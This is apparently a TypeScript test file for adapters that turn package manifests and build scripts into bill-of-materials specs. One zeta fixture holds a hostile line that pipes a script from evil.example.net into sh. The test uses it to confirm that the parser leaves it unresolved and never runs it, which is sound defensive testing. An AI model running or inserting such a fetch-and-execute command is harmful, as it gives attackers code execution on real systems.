import { describe, expect, it } from 'vitest';
import { dcosInstaller } from '../../../bom/adapters/dcos-installer/dcos-installer.ts';
import { eModules } from '../../../bom/adapters/e-modules/e-modules.ts';
import { hammer } from '../../../bom/adapters/hammer/hammer.ts';
import { ansibleDefaults } from '../../../bom/adapters/ansible-defaults/ansible-defaults.ts';
import { marathon } from '../../../bom/adapters/marathon/marathon.ts';
import { pkgpanda } from '../../../bom/adapters/pkgpanda/pkgpanda.ts';
import { theseus } from '../../../bom/adapters/theseus/theseus.ts';
import { universe } from '../../../bom/adapters/universe/universe.ts';
import { zeta } from '../../../bom/adapters/zeta/zeta.ts';
import { relate } from '../../../bom/relations.ts';
import { hex, refusal } from '../support/documents.ts';
import { convertOne, convertText } from './support.ts';

describe('e-modules', () => {
  const list = `version: v1
kind: Repository
components:
  - name: azbi
    type: docker
    versions:
      - {version: dev, image: "quay.example.org/azbi:dev", latest: true, shared: /shared, commands: [{name: init, command: init, args: ["--name=#Environment#{{.Name}}"], envs: {SECRET: "#Config#{{.AzureConfig.Credentials}}"}}]}
      - {version: 0.1.0, image: "quay.example.org/azbi:0.1.0"}
  - {name: vm, type: terraform, versions: [{version: 1.10}]}
`;
  it('carries commands as they are', () => {
    const { spec, value } = convertText(eModules, 'v1.yaml', list);
    expect(value.metadata.name).toBe('v1');
    expect(spec.modules).toMatchObject([
      { name: 'azbi', version: 'dev', latest: true, image: 'azbi-dev', commands: [{ args: ['--name=#Environment#{{.Name}}'], envs: { SECRET: '#Config#{{.AzureConfig.Credentials}}' } }] },
      { name: 'azbi', version: '0.1.0', image: 'azbi-0-1-0' }, { name: 'vm', version: '1.10' },
    ]);
    expect(spec.images).toMatchObject([{ role: 'module' }, { role: 'module' }]);
    expect(spec.unresolved?.map(({ what }) => what)).toEqual(['component vm', 'vm 1.10']);
  });
  it('selects', () => {
    expect(convertText(eModules, 'v1.yaml', list, { select: ['azbi:dev'] }).spec.modules).toHaveLength(1);
    expect(convertText(eModules, 'v1.yaml', list, { select: ['latest', 'nope'] })).toMatchObject({ spec: { modules: [{ version: 'dev' }] }, warnings: ['select: nope is no component of v1.yaml'] });
  });
  it('reads metadata, commas and mixed scalars included', () => {
    const { value, spec, warnings } = convertText(eModules, 'metadata.yml', 'labels: {version: 0.2, name: Acme Kafka, provides-x: true}\nrequires: {strong: [[{key: "kind,", operator: "in,", values: [a, 1.10]}]]}\ninfluences: [[{key: kind, operator: likes, values: [x]}]]\nextra: 1\n');
    expect(value.metadata).toMatchObject({ name: 'acme-kafka', version: '0.2', labels: { 'provides-x': 'true' } });
    expect(spec.requires?.strong).toEqual([[{ key: 'kind', operator: 'in', values: ['a', '1.10'] }]]);
    expect(warnings).toEqual(['metadata.yml:2: a trailing comma in kind, in, was dropped']);
    expect(spec.unresolved?.map(({ what }) => what)).toEqual(['kind likes', 'extra']);
  });
});

describe('universe', () => {
  const files = (revision: number, version: string, more = {}, resource = {}): { path: string; text: string }[] => [
    { path: `repo/packages/A/acme/${revision}/package.json`, text: JSON.stringify({ packagingVersion: '4.0', name: 'acme', version, selected: true, minDcosReleaseVersion: '1.11', upgradesFrom: ['*'], licenses: [{ name: 'MIT', url: 'https://example.org/mit' }], ...more }) },
    { path: `repo/packages/A/acme/${revision}/resource.json`, text: JSON.stringify({
      assets: { uris: { 'sched-zip': 'https://dl.example.net/acme/1.4/bootstrap.zip', 'other': 'https://dl.example.net/other/bootstrap.zip', 'custom': '' }, container: { docker: { acme: `acme/broker:${version}` } } },
      images: { 'icon-small': 'https://dl.example.net/s.png', 'screenshots': ['https://dl.example.net/shot.png'] },
      cli: { binaries: { linux: { 'x86-64': { kind: 'executable', url: 'https://dl.example.net/cli', contentHash: [{ algo: 'sha256', value: hex('5') }] } }, darwin: { 'x86-64': { kind: 'zip', url: 'https://dl.example.net/mac' } } } },
      ...resource,
    }) },
  ];
  it('reads everything that a local universe carries', () => {
    const { value, spec } = convertOne(universe, [...files(9, '1.9'), ...files(10, '1.10'),
      { path: 'repo/packages/A/acme/10/config.json', text: JSON.stringify({ properties: { service: { properties: { 'docker-image': { default: 'acme/dind:2' }, 'name': { default: 'a/b' } } } } }) },
      { path: 'repo/packages/A/acme/10/marathon.json.mustache', text: '{\n"image": "resource.assets.container.docker.x",\n"x": {"image": "{{resource.a}}"}, "y": {"image": "acme/side:1"}\n}' },
      { path: 'repo/packages/A/acme/10/command.json', text: '{"pip": ["https://dl.example.net/cli.whl", "dcos==0.4"]}' }]);
    expect(value.metadata).toMatchObject({ name: 'acme', version: '1.10', labels: { short: 'acme', revision: '10' } });
    expect(spec.images?.map(({ ref, confidence }) => [ref, confidence])).toEqual([['acme/broker:1.10', undefined], ['acme/dind:2', 'guessed'], ['acme/side:1', 'rendered']]);
    expect(spec.files?.map(({ saveAs }) => saveAs)).toEqual([
      'acme/1.10/uris/bootstrap.zip', expect.stringMatching(/^[0-9a-f]{12}\/bootstrap\.zip$/), 'acme/1.10/icons/s.png', 'acme/1.10/cli/linux-x86-64/cli', 'acme/1.10/cli/darwin-x86-64/mac', 'acme/1.10/pip/cli.whl',
    ]);
    expect(spec.unresolved?.map(({ what }) => what)).toEqual(['uri custom', 'resource.assets.container.docker.x', 'pip dcos==0.4']);
    expect(spec).toMatchObject({ upgrades: { from: ['*'] }, licences: [{ name: 'MIT' }], requires: { weak: [[{ key: 'cluster.dcos-version', operator: 'ge', values: ['1.11'] }]] } });
  });
  it('selects by version of package.json, newest revision by number', () => {
    const all = [...files(9, '1.9'), ...files(10, '1.10', { selected: false })];
    const versions = (select: string[]): unknown[] => universe.convert(all, { select }).boms.map(({ value }) => value.metadata.version);
    expect([versions(['acme']), versions(['acme:1.9']), versions(['selected']), versions(['acme:10'])]).toEqual([['1.10'], ['1.9'], ['1.9'], []]);
    expect(universe.convert(all, { select: ['acme:10'] }).warnings).toEqual(['select: acme:10 is not here; versions: 1.9, 1.10']);
    expect(convertOne(universe, files(1, '1'), { values: { icons: 'false', cliOs: 'linux' } }).spec.files?.map(({ purpose }) => purpose)).toEqual(['binary', 'binary', 'cli']);
  });
  it('needs its manager', () => {
    expect(convertOne(universe, files(1, '1', { manager: { packageName: 'kubernetes' } })).spec.requires?.strong).toEqual([[{ key: 'short', operator: 'eq', values: ['kubernetes'] }]]);
  });
});

describe('pkgpanda', () => {
  it('reads sources of every kind, and files that are empty', () => {
    const { boms, warnings } = pkgpanda.convert([
      { path: 'packages/a/buildinfo.json', text: JSON.stringify({ requires: ['b', { name: 'c', variant: 'ee' }], docker: 'golang:1.11', sources: { x: { kind: 'url_extract', url: 'https://dl.example.net/x.tgz', sha1: hex('1').slice(0, 40) }, y: { kind: 'git', git: 'git@github.com:acme/y.git', ref: hex('a').slice(0, 40), ref_origin: 'main' }, z: { kind: 'git_local', rel_path: '.' } } }) },
      { path: 'packages/b/buildinfo.json', text: '' },
      { path: 'packages/a/ee.buildinfo.json', text: '{}' },
    ]);
    expect(boms.map(({ value }) => value.metadata.name)).toEqual(['a', 'b']);
    const [a, b] = boms.map(({ value }) => value.spec);
    expect(a).toMatchObject({
      files: [{ weakDigests: [`sha1:${hex('1').slice(0, 40)}`], saveAs: 'pkgpanda/a/x/x.tgz' }], git: [{ url: 'https://github.com/acme/y.git', commit: hex('a').slice(0, 40), ref: 'main' }],
      images: [{ ref: 'golang:1.11', role: 'toolchain' }], unresolved: [{ what: 'source z of a' }], requires: { strong: [[{ values: ['b'] }]], weak: [[{ values: ['c'] }]] },
    });
    expect(b).toMatchObject({ images: [{ confidence: 'rendered' }] });
    expect(warnings[0]).toContain('https://github.com/acme/y.git is used');
    expect(relate(boms).order).toEqual(['b', 'a']);
  });
});

describe('dcos-installer', () => {
  it('is a file, when it has its marker', () => {
    expect(convertText(dcosInstaller, 'dcos_generate_config.sh', '#!/bin/bash\nexit\n#EOF#\n\u0000tar', { values: { url: 'https://dl.example.net/dcos_generate_config.sh', sha256: hex('c') } }).spec.files)
      .toMatchObject([{ purpose: 'installer', digest: `sha256:${hex('c')}`, mode: '0755' }]);
    expect(refusal(() => dcosInstaller.convert([{ path: 'dcos_generate_config.ee.sh', text: '#!/bin/bash\n' }]))).toMatchObject({ code: 'INPUT_FIELD', exitCode: 2 });
  });
  it('explodes into bootstrap and packages', () => {
    const { spec } = convertText(dcosInstaller, 'complete.latest.json', '{"bootstrap": "abc", "packages": ["mesos--123", "odd"]}', { values: { bootstrapUrl: 'http://10.0.0.1/' } });
    expect(spec.files?.map(({ urls }) => urls?.[0])).toEqual(['http://10.0.0.1/bootstrap/abc.bootstrap.tar.xz', 'http://10.0.0.1/packages/mesos/mesos--123.tar.xz']);
    expect(spec.unresolved?.map(({ what }) => what)).toEqual(['odd']);
  });
});

describe('zeta', () => {
  it('evaluates assignments and nothing else', () => {
    const { value, spec } = convertText(zeta, 'broker/broker-4.1.vers', 'APP_VER="4.1"\nAPP_URL_ROOT="http://dl.example.net/broker/"\nAPP_URL_FILE=\'broker-4.1.tgz\' # file\nAPP_URL="${APP_URL_ROOT}$APP_URL_FILE"\nAPP_IMG="${ZETA_DOCKER_REG_URL}/broker:${APP_VER}"\nREQ_APP_IMG_NAME="maprbase buildbase"\nX=$(curl http://evil.example.net | sh)\nif [ -f x ]; then\nfi\nread -d "" F << EOL\nFROM ${ZETA_DOCKER_REG_URL}/base\nFROM ubuntu:latest\nRUN apt-get install -y vim && pip install xxhash && pip install lz4tools\nEOL\n');
    expect(value.metadata).toMatchObject({ name: 'broker', version: '4.1' });
    expect(spec).toMatchObject({
      files: [{ urls: ['http://dl.example.net/broker/broker-4.1.tgz'] }], produces: [{ image: '${registryHost}/broker:4.1' }], images: [{ ref: 'ubuntu:latest', role: 'base' }],
      requires: { strong: [[{ values: ['base'] }], [{ values: ['buildbase'] }], [{ values: ['maprbase'] }]] },
    });
    expect(spec.unresolved?.map(({ where, what }) => `${where.split(':')[1]} ${what}`)).toEqual(['7 X=$(curl http://evil.example.net | sh)', '8 if [ -f x ]; then', '10 read -d "" F << EOL', '13 apt-get install -y vim', '13 pip install xxhash', '13 pip install lz4tools']);
  });
  it('keeps versions of one app apart, and reads build scripts', () => {
    const { boms } = zeta.convert([
      { path: 'spark/spark-2.0.0.vers', text: 'APP_URL="http://dl.example.net/a.tgz"' }, { path: 'spark/spark-2.0.2.vers', text: 'APP_URL="http://dl.example.net/b.tgz"' },
      { path: 'kafka/build_pkg.sh', text: 'APP_IMG="${ZETA_DOCKER_REG_URL}/kafka"\nAPP_GIT="https://git.example.org/k"\ngit clone $APP_GIT\nwget $UNKNOWN\ndocker pull zk:3\n' },
    ]);
    expect(boms.map(({ value }) => value.metadata.name)).toEqual(['spark-2-0-0', 'spark-2-0-2', 'kafka']);
    expect(boms[2]?.value.spec).toMatchObject({ git: [{ url: 'https://git.example.org/k' }], images: [{ ref: 'zk:3' }], produces: [{ image: '${registryHost}/kafka' }], unresolved: [{ what: '${UNKNOWN}' }] });
  });
});

describe('hammer', () => {
  it('fills templates, takes the last of two keys, and other names for depends', () => {
    const { spec, value, warnings } = convertText(hammer, 'gate/spec.yml', `name: acme-gate
version: "2.3"
epoch: 1
epoch: 2
iteration: 1
type: rpm
license: MIT
depends: [systemd, 'acme-lib >= 1.1', 'acme-gate-tools = {{.Version}}']
dependencies: [libcap]
resources:
  - {url: 'https://dl.example.net/gate/{{.Version}}/{{.Name}}_amd64.zip', hash-type: sha256, hash: ${hex('6')}}
  - {url: 'https://dl.example.net/{{include "x"}}', hash-type: md5, hash: ${hex('6').slice(0, 32)}}
  - {url: 'https://dl.example.net/{{variable "v"}}.tgz', hash-type: sha1, hash: ${hex('6').slice(0, 40)}}
vars: {v: "{{(top).Version}}"}
targets: [{src: '{{.SpecRoot}}/gate.service', dest: /etc/, template: yes}, {src: '{{.SpecRoot}}/config/', dest: /usr/}]
multi: [{name: acme-gate-tools, architecture: noarch}, {}]
odd: 1
`, { folder: '/specs' });
    expect(value.metadata).toMatchObject({ name: 'acme-gate', version: '2.3' });
    expect(spec.files).toMatchObject([
      { urls: ['https://dl.example.net/gate/2.3/acme-gate_amd64.zip'], digest: `sha256:${hex('6')}` }, { urls: ['https://dl.example.net/2.3.tgz'], weakDigests: [`sha1:${hex('6').slice(0, 40)}`] }, { path: 'gate/gate.service' },
    ]);
    expect(spec.produces?.map((item) => item.package)).toEqual(['acme-gate-tools-2.3-1.noarch.rpm', 'acme-gate-2.3-1.x86_64.rpm']);
    expect(spec.packages?.[0]?.include).toEqual([{ name: 'systemd' }, { name: 'acme-lib', version: '>= 1.1' }, { name: 'libcap' }]);
    expect(warnings).toHaveLength(2);
    expect(spec.unresolved?.map(({ what }) => what)).toEqual(['odd', 'https://dl.example.net/{{include "x"}}', '{{.SpecRoot}}/config/'.replace('{{.SpecRoot}}/', '')]);
  });
});

describe('ansible-defaults', () => {
  it('joins images and tags as text, and leaves conditions to a person', () => {
    const { spec } = convertOne(ansibleDefaults, [
      { path: 'roles/a/defaults/main.yml', text: 'a_version: 1.10\na_image: acme/a\na_image_tag: "v{{ a_version }}"\nb_image: "acme/b:2"\nc_image: acme/c\nc_image_tag: 0.2\nd_image: "{{ nobody }}"\na_package: "a-{{ a_version }}"\ne_package: \'{% if x %}e{% endif %}\'\n' },
      { path: 'roles/r/files/x.repo', text: '[x]\nname=x\nbaseurl=https://rpm.example.net/{{ a_version }}\ngpgcheck=0\n[y]\nname=y\n' },
    ]);
    expect(spec.images?.map(({ ref }) => ref)).toEqual(['acme/a:v1.10', 'acme/b:2', 'acme/c:0.2']);
    expect(spec.packages).toMatchObject([{ target: 'el7', include: [{ spec: 'a-1.10' }] }]);
    expect(spec.packageRepositories).toMatchObject([{ id: 'x', baseurl: 'https://rpm.example.net/1.10', gpgcheck: false, trusted: true }, { system: true }]);
    expect(spec.unresolved?.map(({ what }) => what)).toEqual(['d_image: {{ nobody }}', "e_package: {% if x %}e{% endif %}", '[y]']);
  });
});

describe('marathon', () => {
  it('reads apps, groups, pods and jobs', () => {
    const { spec } = convertOne(marathon, [
      { path: 'a.json', text: JSON.stringify({ id: '/g', apps: [{ id: 'web', container: { type: 'DOCKER', docker: { image: 'acme/web:3', forcePullImage: true } }, fetch: [{ uri: 'https://dl.example.net/w.tgz', executable: true }, { uri: 'hdfs://x/y' }], dependencies: ['/g/db'] }], groups: [{ id: 'inner', apps: [{ id: 'x', cmd: 'curl https://run.example.net/x', uris: ['file:///etc/docker.tar.gz'] }] }] }) },
      { path: 'pod.json', text: JSON.stringify({ id: '/p', containers: [{ image: { kind: 'DOCKER', id: 'acme/pod' } }, { image: { kind: 'APPC', id: 'sha512-1' } }] }) },
      { path: 'job.json', text: JSON.stringify({ name: 'job', command: 'x', container: { type: 'DOCKER', image: 'acme/job:1' } }) },
      { path: 't.json.j2', text: '{"id": "t", {% if x %}"a": 1{% endif %}}' },
    ]);
    expect(spec.images?.map(({ ref }) => ref)).toEqual(['acme/web:3', 'acme/pod', 'acme/job:1']);
    expect(spec.files).toMatchObject([{ urls: ['https://dl.example.net/w.tgz'], mode: '0755' }]);
    expect(spec.requires?.weak).toEqual([[{ key: 'short', operator: 'eq', values: ['g-db'] }]]);
    expect(spec.unresolved?.map(({ what }) => what).slice(0, 4)).toEqual(['hdfs://x/y', 'file:///etc/docker.tar.gz', 'https://run.example.net/x', 'sha512-1']);
    expect(spec.unresolved?.some(({ reason }) => reason.includes('jinja'))).toBe(true);
  });
});

describe('theseus', () => {
  it('joins keys that come twice, and fetches nothing that is removed', () => {
    const { spec, warnings } = convertText(theseus, 'demo.yaml', 'services: {a: {image: "203.0.113.7:5000/flask"}}\nservices: {b: {image: nginx}}\ndeploy: {c: {ports: {http: 80}}}\nremove: {d: {image: gone}}\n');
    expect(spec.images?.map(({ ref }) => ref)).toEqual(['203.0.113.7:5000/flask', 'nginx']);
    expect(spec.unresolved?.map(({ what }) => what)).toEqual(['app c']);
    expect(warnings).toHaveLength(2);
  });
});
